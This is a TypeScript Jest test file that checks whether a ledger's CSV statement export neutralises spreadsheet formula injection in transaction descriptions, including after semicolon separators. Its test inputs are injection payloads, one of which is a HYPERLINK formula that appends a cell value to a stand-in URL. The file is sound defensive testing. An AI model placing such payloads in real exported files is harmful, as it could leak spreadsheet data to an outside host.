/** Descriptions are other people's words, and a spreadsheet runs what looks like a formula: also behind a semicolon, where it cuts in Brazil. */
import { expect, test } from '@jest/globals';
import { NaiveLedger } from '../views/naive-ledger.ts';
import { NaiveStatements } from '../views/naive-statements.ts';
import { aMerchant, anEntry, dayOf, uuid } from '../views/view-fixtures.ts';
import { csvForm } from './csv-form.ts';
import { partsOf, statementOf } from './statement.ts';

const ACCOUNT = { accountId: 'drawer', name: 'Caixa', type: 'DRAWER', currency: 'BRL' } as const;
const QUESTION = { merchantId: 'm-1', dates: { from: '2026-03-01', to: '2026-03-31' }, accountId: null };

async function csvWith(description: string): Promise<string> {
  const ledger = new NaiveLedger();
  const value = anEntry({ ledgerSeq: 2, entryId: uuid(2), businessDate: dayOf('2026-03-02'), description });
  ledger.records.push({ type: 'EntryPosted', partition: 0, value });
  const reading = await new NaiveStatements(ledger).open(QUESTION);
  const statement = statementOf(aMerchant({ accounts: [ACCOUNT] }), QUESTION, reading);
  return (await Array.fromAsync(csvForm.write(partsOf(statement, reading)))).join('');
}

test.each([
  '=1+1',
  '+55',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  'mesa 4;=HYPERLINK("http://a.example/"&A1);x',
  'dois;;+2',
  'uma\n-1',
])('%j holds no formula, wherever a spreadsheet cuts', async (description) => {
  const csv = await csvWith(description);
  const cells = csv.split(/[,;\t\r\n]/).map((cell) => cell.replace(/^"/, ''));
  expect(cells.filter((cell) => /^[=+\-@]/.test(cell) && !/^-?\d+\.\d{2}$/.test(cell))).toEqual([]);
});

test('other text is left as it is', async () => {
  expect(await csvWith('pão; 2 + 2 = 4, a-b @ c')).toContain('"pão; 2 + 2 = 4, a-b @ c"');
});
